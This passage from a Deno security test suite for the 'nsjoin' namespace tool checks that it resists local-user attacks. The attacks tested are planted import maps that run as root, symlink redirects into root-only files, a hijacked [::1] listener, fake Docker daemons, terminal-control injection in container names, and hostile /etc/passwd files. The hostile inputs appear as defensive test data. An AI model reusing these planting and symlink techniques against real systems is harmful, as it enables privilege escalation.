    assert(names.includes("system.posix_acl_access"), `this tmpfs takes no ACL: ${names}`);
    const dirAcl = posixAcl(7, user.uid, 7);
    set("/mnt/d", [["system.posix_acl_access", dirAcl], ["system.posix_acl_default", dirAcl]]);
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-acl22-" });
    await Deno.chmod(dir, 0o755);
    const asUser = (cmd: string[]) =>
      runPiped("setpriv", {
        args: [`--reuid=${user.uid}`, `--regid=${user.gid}`, "--clear-groups", ...cmd],
      });
    const xattrsOf = (p: string) => {
      const fd = openat2(AT_FDCWD, p, O.RDONLY, 0n);
      try {
        return getXattrs(fd).map(([n]) => n);
      } finally {
        close(fd);
      }
    };
    try {
      await t.step("cp TARGET:DIR DEST: the copy is ours alone", async () => {
        const out = await runPiped(Deno.execPath(), {
          args: ["run", "-A", "--quiet", CLI, "cp", `${target.pid}:/mnt/d`, `${dir}/d`],
        });
        assertEquals(out.code, 0, out.stderr);
        assertEquals(Deno.readTextFileSync(`${dir}/d/f`), "data\n");
        const read = await asUser(["cat", `${dir}/d/f`]);
        assert(read.code !== 0, `the user read root's copy: ${read.stdout}`);
        const made = await asUser(["touch", `${dir}/d/planted`]);
        assert(made.code !== 0, "the user wrote into root's copied directory");
        assertEquals(xattrsOf(`${dir}/d/f`), ["user.note"]);
        assertEquals(xattrsOf(`${dir}/d`), []);
      });
    } finally {
      await Deno.remove(dir, { recursive: true });
    }
  },
});

// ---- stop 22: a local user

Deno.test({
  name:
    "stop 22: inNamespaces bundles a module URL with the configuration of root's script, never one a user put in root's working directory",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn(t) {
    // A module URL for a mnt Worker is bundled by `deno bundle`, which took its deno.json
    // (import map, package.json, node_modules) from the working directory upwards: a user
    // who put one in a directory root's script ran from (their project, a build dir in
    // /tmp, or any directory above it) mapped `node:path` to their own module, bundled
    // into root's Worker: their code ran as uid 0 with every capability, in the target's
    // mount namespace, and answered root's script for root's own module.
    const user = await testUser();
    const asUser = ["setpriv", `--reuid=${user.uid}`, `--regid=${user.gid}`, "--clear-groups"];
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-sec22b-" });
    const theirs = `${dir}/theirs`;
    await using target = await makeTarget();
    try {
      // Root's script, module and deno.json (which maps `tag`), where only root may write;
      // and a second configuration of root's, given with --config.
      await Deno.mkdir(`${dir}/root`, { mode: 0o700 });
      await Deno.mkdir(`${dir}/conf`, { mode: 0o700 });
      const files: Record<string, string> = {
        "root/job.ts": 'import { basename } from "node:path";\nimport { tag } from "tag";\n' +
          "export default (p: string): string => tag + basename(p);\n",
        "root/tag.ts": 'export const tag = "root:";\n',
        "root/deno.json": '{ "imports": { "tag": "./tag.ts" } }\n',
        "conf/tag.ts": 'export const tag = "conf:";\n',
        "conf/deno.json": '{ "imports": { "tag": "./tag.ts" } }\n',
        "root/script.ts": `import { closeNamespaceWorkers, inNamespaces } from "${ROOT}mod.ts";\n` +
          `const url = new URL("./job.ts", import.meta.url);\n` +
          `console.log(await inNamespaces(${target.pid}, url, { namespaces: ["mnt"], arg: "/a/b" }));\n` +
          "await closeNamespaceWorkers();\n",
      };
      for (const [name, body] of Object.entries(files)) {
        await Deno.writeTextFile(`${dir}/${name}`, body);
      }
      // The user's directory, with their deno.json and the module it maps node:path (and
      // root's `tag`, had they read root's script) to.
      await Deno.chmod(dir, 0o755);
      await Deno.mkdir(theirs);
      await Deno.chown(theirs, user.uid, user.gid);
      await sh(asUser[0], [
        ...asUser.slice(1),
        "sh",
        "-c",
        `cd ${theirs} && mkdir sub && ` +
        `echo '{ "imports": { "node:path": "./planted.ts", "tag": "./planted.ts" } }' > deno.json && ` +
        `echo 'export const tag = "";' > planted.ts && ` +
        `echo 'export const basename = () => "planted ran as " + Deno.uid();' >> planted.ts`,
      ]);
      assertEquals((await Deno.stat(`${theirs}/deno.json`)).uid, user.uid);
      const script = `${dir}/root/script.ts`;
      for (
        const [label, cwd, flags, expected] of [
          ["in it", theirs, [], "root:b"],
          ["below it", `${theirs}/sub`, [], "root:b"],
          ["with --config", theirs, ["--config", `${dir}/conf/deno.json`], "conf:b"],
          ["with -c", theirs, [`-c${dir}/conf/deno.json`], "conf:b"],
        ] as const
      ) {
        await t.step(`root's script run from the user's directory (${label})`, async () => {
          const out = await runPiped(Deno.execPath(), {
            args: ["run", "-A", "--quiet", ...flags, script],
            cwd,
            env: { NO_COLOR: "1" },
          });
          assertEquals(out.stdout, `${expected}\n`, `root got: ${out.stdout}${out.stderr}`);
          assertEquals(out.code, 0, out.stderr);
        });
      }
    } finally {
      await Deno.remove(dir, { recursive: true });
    }
  },
});

Deno.test({
  name:
    "stop 22: daxIn never opens a redirect's file on the host, where a user's container's working directory points",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn(t) {
    // dax opens a redirect's file itself, in the caller's process: on the host, as root,
    // relative to the shell's working directory — for daxIn the target's (a container's
    // configured WorkingDir, which its owner chooses). A local user whose rootless
    // container works in /tmp/DIR, a directory of theirs on the host too, put a symlink
    // there: root's `await $\`… > report.txt\`` wrote the container's output through it,
    // into a root-only file.
    const owner = podmanUser();
    if (!owner) throw new Error("tests/setup.sh did not create the rootless podman user");
    await ensureImages(owner);
    const { daxIn } = await import("../dax.ts");
    const name = `nsjoin-sec22b-${crypto.randomUUID().slice(0, 8)}`;
    const drop = `/tmp/${name}`;
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-sec22b-" });
    const victim = `${dir}/victim`;
    let made: Awaited<ReturnType<typeof startContainer>> | undefined;
    try {
      await Deno.writeTextFile(victim, "root's\n", { mode: 0o600 });
      await sh("setpriv", [
        `--reuid=${owner.uid}`,
        `--regid=${owner.gid}`,
        "--clear-groups",
        "sh",
        "-c",
        `mkdir -m 755 ${drop} && ln -s ${victim} ${drop}/report.txt && ln -s ${victim} ${drop}/in.txt`,
      ]);
      made = await startContainer("podman", name, ["--tmpfs", drop, "-w", drop], owner);
      const $ = daxIn(await resolveContainer(`podman@${owner.name}:${name}`));
      assertEquals(await $`pwd`.text(), drop);
      const pathOf = ($ as unknown as { path(p: string): unknown }).path;
      await t.step("an output redirect to a file is refused, nothing opened", async () => {
        for (
          const line of [
            () => $`echo planted > report.txt`,
            () => $`echo planted >> report.txt`,
            () => $`echo planted 2>report.txt`,
            () => $`echo planted &> report.txt`,
            () => $`echo planted >"report.txt"`,
            () => $.raw`echo planted ${"> report.txt"}`,
            () => $`echo planted > ${pathOf("report.txt")}`,
            async () => $.raw`echo planted ${await $`echo '> report.txt'`.stdout("piped")}`,
          ]
        ) {
          let error: unknown;
          try {
            await line();
          } catch (e) {
            error = e;
          }
          assertEquals(await Deno.readTextFile(victim), "root's\n", "root's file was written");
          assert(error instanceof TypeError, `not refused: ${error}`);
          assertMatch((error as TypeError).message, /Cannot redirect .* to a file in daxIn/);
        }
      });
      await t.step("an input redirect from a file is refused", async () => {
        let error: unknown;
        try {
          assertEquals(await $`cat < in.txt`.text(), "", "root's file was read into the container");
        } catch (e) {
          error = e;
        }
        assert(error instanceof TypeError, `not refused: ${error}`);
      });
      await t.step("what opens no file still works", async () => {
        const bytes = new Uint8Array(16);
        await $`echo to-a-buffer > ${bytes}`;
        assertEquals(new TextDecoder().decode(bytes.subarray(0, 12)), "to-a-buffer\n");
        assertEquals(await $`echo quiet > /dev/null; echo loud 2>&1`.text(), "loud");
        assertEquals(await $`cat < ${"from a string"}`.text(), "from a string");
        assertEquals(await $`echo 'a > b' "c < d"`.text(), "a > b c < d");
        // A host file the caller names as one, with $.path(), is the caller's to write.
        await $`echo mine > ${pathOf(`${dir}/mine`)}`;
        assertEquals(await Deno.readTextFile(`${dir}/mine`), "mine\n");
      });
    } finally {
      if (made) await removeContainers([made]);
      await Deno.remove(drop, { recursive: true }).catch(() => {});
      await Deno.remove(dir, { recursive: true });
    }
  },
});

/** A TCP server of a local user on [::1]:PORT that answers every connection "USER". */
const USER_LISTENER_TS = String.raw`
const server = Deno.listen({ hostname: "::1", port: Number(Deno.args[0]) });
console.log("ready");
for await (const c of server) {
  await c.write(new TextEncoder().encode("USER\n")).catch(() => {});
  c.close();
}
`;

Deno.test({
  name:
    "stop 22: forward listens on both loopbacks by default, and a local user on ::1 makes it fail, never take root's clients",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  sanitizeOps: false,
  async fn(t) {
    // `forward web1 8080:80` listened on 127.0.0.1 alone, while its help says
    // "localhost:8080": a client of root's that looks localhost up (Debian's /etc/hosts
    // names ::1 first; Deno's fetch, Python's urllib take it) reached whatever listened on
    // [::1]:8080 — any local user's server, which then had root's requests (credentials,
    // a database session) meant for the container.
    const { scopedJoin } = await import("../mod.ts");
    const user = await testUser();
    const { deno, denoDir } = userDeno();
    await using target = await makeTarget({ flags: ["-n"], setup: "ip link set lo up" });
    let inside: Deno.Listener;
    {
      using _ = scopedJoin(target.pid, ["net"]);
      inside = Deno.listen({ hostname: "127.0.0.1", port: 0 });
    }
    const serving = (async () => {
      for await (const c of inside) {
        await c.write(new TextEncoder().encode("TARGET\n")).catch(() => {});
        c.close();
      }
    })();
    const remote = (inside.addr as Deno.NetAddr).port;
    const answer = async (hostname: string, port: number) => {
      const conn = await Deno.connect({ hostname, port });
      const got = await new Response(conn.readable).text();
      return got;
    };
    const start = (spec: string) =>
      new Deno.Command(Deno.execPath(), {
        args: ["run", "-A", "--quiet", CLI, "forward", String(target.pid), spec],
        stdout: "piped",
        stderr: "piped",
      }).spawn();
    try {
      await t.step("forward TARGET :PORT listens on 127.0.0.1 and ::1, one port", async () => {
        const child = start(`:${remote}`);
        const stuck = setTimeout(() => child.kill("SIGKILL"), 15_000);
        const reader = child.stdout.getReader();
        let out = "";
        while ((out.match(/\n/g) ?? []).length < 2) {
          const { value, done } = await reader.read();
          if (done) break;
          out += text(value);
        }
        try {
          const m = out.match(
            new RegExp(
              `^Forwarding from 127\\.0\\.0\\.1:(\\d+) -> ${remote}\nForwarding from \\[::1\\]:(\\d+) -> ${remote}\n$`,
            ),
          );
          assert(m, `unexpected output: ${out}`);
          assertEquals(m![1], m![2]);
          assertEquals(await answer("127.0.0.1", Number(m![1])), "TARGET\n");
          assertEquals(await answer("::1", Number(m![1])), "TARGET\n");
        } finally {
          clearTimeout(stuck);
          child.kill("SIGINT");
          reader.releaseLock();
          await child.stdout.cancel();
          await child.stderr.cancel();
          await child.status;
        }
      });
      await t.step("a local user's listener on [::1]:PORT: forward fails, says why", async () => {
        const script = `/tmp/nsjoin-sec22b-listener-${crypto.randomUUID()}.ts`;
        await Deno.writeTextFile(script, USER_LISTENER_TS, { mode: 0o644 });
        const port = 20000 + Math.floor(Math.random() * 20000);
        const theirs = new Deno.Command("setpriv", {
          args: [`--reuid=${user.uid}`, `--regid=${user.gid}`, "--clear-groups", deno, "run"]
            .concat(["-A", "--quiet", "--no-lock", script, String(port)]),
          env: { DENO_DIR: denoDir },
          stdout: "piped",
          stderr: "piped",
        }).spawn();
        try {
          const r = theirs.stdout.getReader();
          const first = await r.read();
          r.releaseLock();
          assertEquals(text(first.value ?? new Uint8Array()), "ready\n");
          assertEquals(await answer("::1", port), "USER\n");
          const child = start(`${port}:${remote}`);
          const timer = setTimeout(() => child.kill("SIGKILL"), 15_000);
          const out = await child.output();
          clearTimeout(timer);
          assertEquals(text(out.stdout), "", "forward served with ::1 taken by the user");
          assertEquals(out.code, 1, text(out.stderr));
          assertEquals(
            text(out.stderr),
            `nsjoin forward: Cannot listen on [::1]:${port}: another process listens there (localhost is 127.0.0.1 and ::1)\n`,
          );
        } finally {
          theirs.kill("SIGKILL");
          await theirs.stdout.cancel().catch(() => {});
          await theirs.stderr.cancel().catch(() => {});
          await theirs.status;
          await Deno.remove(script);
        }
      });
    } finally {
      inside.close();
      await serving.catch(() => {});
    }
  },
});

/** A fake Docker API on HOST:PORT (0: the kernel's choice, printed): `web` is PID, with ENV. */
const FAKE_DOCKERD_AT_TS = String.raw`
const [hostname, port, pid, env] = Deno.args;
const server = Deno.listen({ hostname, port: Number(port) });
console.log(String(server.addr.port));
for await (const conn of server) {
  await conn.read(new Uint8Array(4096));
  const body = JSON.stringify({
    Id: "e".repeat(64),
    Name: "/web",
    State: { Running: true, Pid: Number(pid) },
    Config: { Env: [env], User: "", WorkingDir: "" },
  });
  await conn.write(new TextEncoder().encode("HTTP/1.0 200 OK\r\n\r\n" + body));
  conn.close();
}
`;

Deno.test({
  name:
    "stop 22: DOCKER_HOST=tcp://localhost:PORT asks root's daemon on 127.0.0.1, not a local user's on ::1",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn() {
    // Deno.connect takes the first address of a name, and Debian's /etc/hosts puts ::1 first
    // for localhost: with root's daemon on 127.0.0.1:PORT (docker's -H tcp://127.0.0.1:…),
    // a local user's on [::1]:PORT answered root's exec, and their rootless container
    // called `web` got root's exec of its own `web` (its -e, arguments and stdin).
    const user = await testUser();
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-sec22b-dockerd-" });
    await Deno.chmod(dir, 0o755);
    await Deno.writeTextFile(`${dir}/fake.ts`, FAKE_DOCKERD_AT_TS, { mode: 0o644 });
    // This machine's /etc/hosts names 127.0.0.1 alone: root's nsjoin gets Debian's.
    await Deno.writeTextFile(
      `${dir}/hosts`,
      "127.0.0.1\tlocalhost\n::1\tlocalhost ip6-localhost\n",
    );
    await using roots = await makeTarget({ flags: ["-m", "-u"], hostname: "roots-web" });
    await using theirs = await makeTarget({
      flags: ["--user", "--map-root-user", "--map-auto", "--mount", "--uts"],
      setup: "hostname users-web",
      user,
    });
    // Root's daemon names a process in a root-made cgroup named for the container, as
    // dockerd's are: a daemon on a socket of root's is believed only then (stop 22, review A).
    const v2 = (await Deno.readTextFile("/proc/self/mountinfo")).split("\n")
      .map((l) => l.split(" ")).find((f) => f[3] === "/" && f.includes("cgroup2"))?.[4];
    assert(v2, "no cgroup2 mount");
    const cgroups = [`${v2}/nsjoin-sec22b-${crypto.randomUUID().slice(0, 8)}`];
    cgroups.push(`${cgroups[0]}/docker-${"e".repeat(64)}.scope`);
    for (const d of cgroups) await Deno.mkdir(d);
    await Deno.writeTextFile(`${cgroups[1]}/cgroup.procs`, String(roots.pid));
    const { deno, denoDir } = userDeno();
    const daemons: Deno.ChildProcess[] = [];
    const start = async (cmd: string, args: string[], env: Record<string, string> = {}) => {
      const child = new Deno.Command(cmd, {
        args,
        env,
        stdin: "null",
        stdout: "piped",
        stderr: "piped",
      }).spawn();
      daemons.push(child);
      const reader = child.stdout.getReader();
      const port = Number(text((await reader.read()).value ?? new Uint8Array()).trim());
      reader.releaseLock();
      child.stdout.cancel().catch(() => {});
      child.stderr.cancel().catch(() => {});
      if (!(port > 0)) throw new Error("a fake daemon did not start");
      return port;
    };
    try {
      const fake = ["run", "-A", "--quiet", "--no-config", "--no-lock", `${dir}/fake.ts`];
      const port = await start(
        Deno.execPath(),
        [...fake, "127.0.0.1", "0", String(roots.pid), "WHO=root"],
      );
      await start(
        "setpriv",
        [`--reuid=${user.uid}`, `--regid=${user.gid}`, "--clear-groups", deno]
          .concat(fake, "::1", String(port), String(theirs.pid), "WHO=user"),
        { DENO_DIR: denoDir },
      );
      const out = await runPiped("unshare", {
        args: [
          ...["-m", "sh", "-c", 'mount --bind "$0" /etc/hosts && exec "$@"', `${dir}/hosts`],
          ...[Deno.execPath(), "run", "-A", "--quiet", CLI, "exec", "docker:web", "hostname"],
        ],
        env: { DOCKER_HOST: `tcp://localhost:${port}` },
      });
      assertEquals(out.stdout, "roots-web\n", `root's exec ran in: ${out.stdout}${out.stderr}`);
      assertEquals(out.code, 0, out.stderr);
    } finally {
      for (const d of daemons) {
        try {
          d.kill("SIGKILL");
        } catch {
          // Gone already.
        }
        await d.status;
      }
      await Deno.writeTextFile(`${v2}/cgroup.procs`, String(roots.pid)).catch(() => {});
      for (const d of cgroups.reverse()) await Deno.remove(d).catch(() => {});
      await Deno.remove(dir, { recursive: true });
    }
  },
});

/** A Docker API on 127.0.0.1 (port printed) whose answers have every field of the wrong type. */
const MALFORMED_DOCKERD_TS = String.raw`
const server = Deno.listen({ hostname: "127.0.0.1", port: 0 });
console.log(String(server.addr.port));
for await (const conn of server) {
  const buf = new Uint8Array(4096);
  const ask = new TextDecoder().decode(buf.subarray(0, (await conn.read(buf)) ?? 0));
  const list = [{ Id: 5, Names: [7] }, { Id: "f".repeat(64), Names: [null] }];
  const inspect = { Id: "e".repeat(64), Name: 5, State: { Running: true, Pid: "1" }, Config: { Env: [null] } };
  const body = JSON.stringify(ask.includes("/containers/json") ? list : inspect);
  await conn.write(new TextEncoder().encode("HTTP/1.0 200 OK\r\n\r\n" + body));
  conn.close();
}
`;

Deno.test({
  name:
    "stop 22: a docker daemon's answers of the wrong shape fail one line, never root's ps or exec as a usage error",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn(t) {
    // DOCKER_HOST may name a user's daemon (stop 21 reads it as theirs): `"Env": [null]`
    // or a numeric name made root's `exec docker:web` and `ps` end in a TypeError
    // ("Cannot read properties of null", exit 2, "see --help"), for every engine.
    const user = await testUser();
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-sec22b-malformed-" });
    await Deno.chmod(dir, 0o755);
    await Deno.writeTextFile(`${dir}/fake.ts`, MALFORMED_DOCKERD_TS, { mode: 0o644 });
    const { deno, denoDir } = userDeno();
    const daemon = new Deno.Command("setpriv", {
      args: [`--reuid=${user.uid}`, `--regid=${user.gid}`, "--clear-groups", deno, "run"]
        .concat(["-A", "--quiet", "--no-config", "--no-lock", `${dir}/fake.ts`]),
      env: { DENO_DIR: denoDir },
      stdin: "null",
      stdout: "piped",
      stderr: "piped",
    }).spawn();
    try {
      const reader = daemon.stdout.getReader();
      const port = Number(text((await reader.read()).value ?? new Uint8Array()).trim());
      reader.releaseLock();
      daemon.stdout.cancel().catch(() => {});
      daemon.stderr.cancel().catch(() => {});
      assert(port > 0, "the fake daemon did not start");
      const cli = (...args: string[]) =>
        runPiped(Deno.execPath(), {
          args: ["run", "-A", "--quiet", CLI, ...args],
          env: { DOCKER_HOST: `tcp://127.0.0.1:${port}` },
        });
      await t.step("ps lists the other engines", async () => {
        const out = await cli("ps", "--json");
        assertEquals(out.code, 0, out.stderr);
        assert(Array.isArray(JSON.parse(out.stdout)), out.stdout);
      });
      await t.step("exec docker:web: one line, not a usage error", async () => {
        const out = await cli("exec", "docker:web", "true");
        assertEquals(out.code, 125, out.stderr);
        assert(!/Cannot read properties|--help/.test(out.stderr), out.stderr);
        assertEquals(out.stderr.trim().split("\n").length, 1, out.stderr);
      });
    } finally {
      daemon.kill("SIGKILL");
      await daemon.status;
      await Deno.remove(dir, { recursive: true });
    }
  },
});

Deno.test({
  name:
    "stop 22: ps --json and ls --json put no C1 control of a user's names on root's terminal, the JSON value exact",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn(t) {
    // JSON.stringify escapes C0 controls only: a user's container name or process argument
    // holding U+009B (CSI) or U+009D (OSC) went to root's terminal as UTF-8, which a terminal
    // reading UTF-8 C1 controls (xterm) acts on — a screen clear, a title, a hyperlink.
    const hostile = "x\u009b2J\u009d0;pwned\u0007y\u202e";
    await using user = await hostileUser();
    const pid = await user.sleeper("container");
    await user.store([{ id: "c".repeat(64), name: hostile, pid }]);
    const c1 = /[\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;
    await t.step("ps --json", async () => {
      const ps = await cliBounded(["ps", "--json"], 60_000);
      assertEquals(ps.code, 0, ps.stderr);
      assert(!c1.test(ps.stdout), "a C1 control reached the terminal");
      const names = (JSON.parse(ps.stdout) as { name?: string }[]).map((r) => r.name);
      assert(names.includes(hostile), ps.stdout.slice(0, 400));
    });
    await t.step("ls --json", async () => {
      // The first process of the user's new namespaces, whose command line ls shows.
      const child = new Deno.Command("setpriv", {
        args: [`--reuid=${user.uid}`, `--regid=${user.gid}`, "--clear-groups"]
          .concat(["unshare", "-Urn", "sh", "-c", "sleep 100000; :", hostile]),
        stdin: "null",
      }).spawn();
      try {
        // sh's own command line: setpriv's and unshare's name the hostile text too.
        await waitFor("the user's sh", () => {
          const cmdline = Deno.readTextFileSync(`/proc/${child.pid}/cmdline`);
          return cmdline.startsWith("sh\0-c\0") && cmdline.includes(hostile);
        });
        const ls = await cliBounded(["ls", "--json", "-o", "NS,PID,COMMAND"], 60_000);
        assertEquals(ls.code, 0, ls.stderr);
        assert(!c1.test(ls.stdout), "a C1 control reached the terminal");
        const rows = (JSON.parse(ls.stdout) as { namespaces: { command: string | null }[] })
          .namespaces;
        assert(rows.some((r) => r.command?.includes(hostile)), "the argument was not kept exact");
      } finally {
        // sh's sleep first: killed alone, sh leaves it to run on, orphaned.
        const kids = await Deno.readTextFile(`/proc/${child.pid}/task/${child.pid}/children`)
          .catch(() => "");
        for (const kid of kids.split(/\s+/).filter((k) => k)) {
          try {
            Deno.kill(Number(kid), "SIGKILL");
          } catch {
            // Gone already.
          }
        }
        child.kill("SIGKILL");
        await child.status;
      }
    });
  },
});

// ---- stop 22: exec fast path

/**
 * `nsjoin exec` forced onto its full path: `--env-file` of an empty file adds nothing, and
 * the fast path (src/cli/_exec_fast.ts) leaves that option to the full path. Both as root
 * types them, with a kill timer.
 */
async function bothPaths(
  args: string[],
  ms = 30_000,
): Promise<
  { fast: Awaited<ReturnType<typeof cliBounded>>; full: Awaited<ReturnType<typeof cliBounded>> }
> {
  const empty = await Deno.makeTempFile({ prefix: "nsjoin-sec22-env-" });
  try {
    const fast = await cliBounded(["exec", ...args], ms);
    const full = await cliBounded(["exec", "--env-file", empty, ...args], ms);
    return { fast, full };
  } finally {
    await Deno.remove(empty);
  }
}

/** The helper's argv when the CLI runs `exec ARGS`, by strace (its execve or execveat). */
async function helperArgv(args: string[]): Promise<string[]> {
  const o = await new Deno.Command("strace", {
    args: ["-f", "-qq", "-e", "trace=execve,execveat", "-s", "4096", "--"]
      .concat([Deno.execPath(), "run", "-A", "--quiet", "--no-lock", CLI, "exec", ...args]),
    stdin: "null",
    stdout: "null",
    stderr: "piped",
  }).output();
  const m = text(o.stderr).match(/execve(?:at)?\([^,]*, (?:"", )?(\["nsjoin-helper".*?\]), /);
  assert(m, `no helper in:\n${text(o.stderr).slice(-2000)}`);
  return JSON.parse(m![1]);
}

/** The helper written to a private file, run directly with `args` (what the fast path gives it). */
async function runHelper(
  args: string[],
  times = 1,
): Promise<{ code: number; stdout: string; stderr: string }[]> {
  const dir = await Deno.makeTempDir({ prefix: "nsjoin-sec22-helper-" });
  try {
    await Deno.writeFile(`${dir}/helper`, helperBytes(), { mode: 0o700 });
    const out = [];
    for (let i = 0; i < times; i++) {
      const o = await new Deno.Command(`${dir}/helper`, {
        args,
        clearEnv: true,
        env: { PATH: "/usr/bin:/bin" },
        stdin: "null",
      }).output();
      out.push({ code: o.code, stdout: text(o.stdout), stderr: text(o.stderr) });
    }
    return out;
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
}

/** The fast path's helper options for container `c` at `pid`, then the program. */
function fastPlan(c: { id: string; name: string }, pid: number, program: string[]): string[] {
  return [`P${pid}`, "J7e020080", "b", "W/", `d${c.id}:${c.name}`, "r", "t", "hnsjoin exec"]
    .concat(["iBEVzlom", "I", "--", ...program]);
}

Deno.test({
  name:
    "stop 22: exec docker:NAME's fast path refuses a PID dockerd's state names that a user's process took, in a cgroup they named for the container",
  ignore: NEEDS_DOCKER,
  sanitizeResources: false,
  async fn(t) {
    // dockerd's config.v2.json still names the PID of a container that died; a local user's
    // process got it, in a cgroup of their delegated subtree named docker-ID.scope. The fast
    // path pins whatever holds the PID: the helper must find it is not the container's.
    await dockerImage();
    const c = await startContainer("docker", `nsjoin-sec22-a-${STATE_RUN}`);
    const marker = `/tmp/nsjoin-sec22-ran-${crypto.randomUUID().slice(0, 8)}`;
    try {
      await t.step("a user-made cgroup named for the ID", async () => {
        await using user = await userNamedCgroup(`docker-${c.id}.scope`);
        const [r] = await runHelper(fastPlan(c, user.pid, ["touch", marker]));
        assertEquals(r.code, 125, r.stderr);
        assertEquals(
          r.stderr,
          `nsjoin exec: Cannot use docker container ${c.name} - dockerd's state names a process outside the container's cgroups\n`,
        );
        assert(!existsNow(marker), "the program ran in the user's process's namespaces");
      });
      await t.step("a process in no container's cgroup", async () => {
        const other = new Deno.Command("sleep", { args: ["60"], stdin: "null" }).spawn();
        try {
          const [r] = await runHelper(fastPlan(c, other.pid, ["touch", `${marker}-2`]));
          assertEquals(r.code, 125, r.stderr);
          assertMatch(r.stderr, /names a process outside the container's cgroups/);
          assert(!existsNow(`${marker}-2`), "the program ran");
        } finally {
          other.kill("SIGKILL");
          await other.status;
        }
      });
      await t.step("the container's own process: the same plan runs", async () => {
        const [r] = await runHelper(fastPlan(c, c.pid, ["cat", "/proc/self/cgroup"]));
        assertEquals(r.code, 0, r.stderr);
        assert(r.stdout.includes(c.id), r.stdout);
      });
    } finally {
      await Deno.remove(marker).catch(() => {});
      await Deno.remove(`${marker}-2`).catch(() => {});
      await removeContainers([c]);
    }
  },
});

Deno.test({
  name:
    "stop 22: exec docker:NAME's fast path refuses a root-made cgroup named for the container below another container's cgroup",
  ignore: NEEDS_DOCKER,
  sanitizeResources: false,
  async fn() {
    // A rootful container's root (uid 0) names the cgroups of the subtree delegated to it
    // (podman's systemd mode): docker-ID.scope below its own libpod-X.scope is root's, and a
    // process of its own there holds the PID dockerd's state names.
    await dockerImage();
    const c = await startContainer("docker", `nsjoin-sec22-b-${STATE_RUN}`);
    const mounts = (await Deno.readTextFile("/proc/self/mountinfo")).split("\n")
      .map((l) => l.split(" ")).filter((f) => f[3] === "/");
    const v2 = mounts.find((f) => f.includes("cgroup2"))?.[4];
    assert(v2, "no cgroup2 mount");
    const top = `${v2}/nsjoin-sec22-${crypto.randomUUID().slice(0, 8)}`;
    const dirs = [top, `${top}/libpod-${"c".repeat(64)}.scope`];
    dirs.push(`${dirs[1]}/docker-${c.id}.scope`);
    const marker = `/tmp/nsjoin-sec22-ran-${crypto.randomUUID().slice(0, 8)}`;
    for (const d of dirs) await Deno.mkdir(d);
    const squatter = new Deno.Command("unshare", {
      args: ["-m", "--propagation", "private", "sleep", "60"],
      stdin: "null",
    }).spawn();
    try {
      await Deno.writeTextFile(`${dirs[2]}/cgroup.procs`, String(squatter.pid));
      const [r] = await runHelper(fastPlan(c, squatter.pid, ["touch", marker]));
      assertEquals(r.code, 125, r.stderr);
      assertMatch(r.stderr, /names a process outside the container's cgroups/);
      assert(!existsNow(marker), "the program ran in the squatter's namespaces and cgroup");
    } finally {
      squatter.kill("SIGKILL");
      await squatter.status;
      await Deno.remove(marker).catch(() => {});
      for (const d of dirs.reverse()) {
        for (let i = 0; i < 50 && existsNow(d); i++) {
          await Deno.remove(d).catch(() => new Promise((r) => setTimeout(r, 20)));
        }
      }
      await removeContainers([c]);
    }
  },
});

Deno.test({
  name:
    "stop 22: exec docker:NAME of a paused container exits 125 at once on both paths, with docker's words",
  ignore: NEEDS_DOCKER,
  sanitizeResources: false,
  async fn() {
    await dockerImage();
    const c = await startContainer("docker", `nsjoin-sec22-p-${STATE_RUN}`);
    try {
      await sh("docker", ["pause", c.name]);
      const { fast, full } = await bothPaths([`docker:${c.name}`, "true"], 20_000);
      for (const r of [fast, full]) {
        assertEquals([r.code, r.killed], [125, false], r.stderr);
        assertEquals(
          r.stderr,
          `nsjoin exec: Cannot exec in container ${c.name}: it is paused - unpause it first (its cgroup is frozen)\n`,
        );
      }
      assertMatch((await helperArgv([`docker:${c.name}`, "true"])).join(" "), / d[0-9a-f]{64}:/);
    } finally {
      await sh("docker", ["unpause", c.name]).catch(() => {});
      await removeContainers([c]);
    }
  },
});

Deno.test({
  name:
    "stop 22: a container's hostile /etc/passwd or /etc/group never hangs, misleads or reaches the host on either exec path",
  ignore: NEEDS_DOCKER,
  sanitizeResources: false,
  async fn(t) {
    await dockerImage();
    const c = await startContainer("docker", `nsjoin-sec22-f-${STATE_RUN}`);
    // A host file only a host-side read would find: its user would run the program.
    const host = await Deno.makeTempDir({ prefix: "nsjoin-sec22-host-" });
    await Deno.writeTextFile(`${host}/passwd`, "hostonly:x:4242:4242::/HOSTSECRET:/bin/sh\n");
    const etc = `/proc/${c.pid}/root/etc`;
    const original = await Deno.readTextFile(`${etc}/passwd`);
    const cases: [string, () => Promise<unknown>, RegExp][] = [
      ["a FIFO", () => sh("mkfifo", [`${etc}/passwd`]), /not a regular file/],
      ["a symlink to /dev/zero", () => Deno.symlink("/dev/zero", `${etc}/passwd`), /not a regular/],
      ["a character device", () => sh("mknod", [`${etc}/passwd`, "c", "1", "5"]), /not a regular/],
      ["3 GB", () => sh("truncate", ["-s", "3G", `${etc}/passwd`]), /larger than 4 MiB/],
      [
        "an absolute symlink to a host file",
        () => Deno.symlink(`/../../../../../..${host}/passwd`, `${etc}/passwd`),
        /Cannot find user "hostonly"/,
      ],
      [
        "a symlink through a magic link",
        () => Deno.symlink(`/proc/self/root${host}/passwd`, `${etc}/passwd`),
        /Cannot (read \/etc\/passwd|find user "hostonly")/,
      ],
      [
        "/etc/group as a FIFO",
        async () => {
          await Deno.writeTextFile(`${etc}/passwd`, original);
          await Deno.rename(`${etc}/group`, `${etc}/group.orig`);
          await sh("mkfifo", [`${etc}/group`]);
        },
        /Cannot read \/etc\/group .*not a regular file/,
      ],
    ];
    try {
      for (const [what, setup, reason] of cases) {
        await t.step(what, async () => {
          await Deno.remove(`${etc}/passwd`);
          await setup();
          const { fast, full } = await bothPaths(
            ["-u", "hostonly", `docker:${c.name}`, "touch", "/tmp/ran"],
            20_000,
          );
          for (const r of [fast, full]) {
            assertEquals([r.code, r.killed], [125, false], r.stderr);
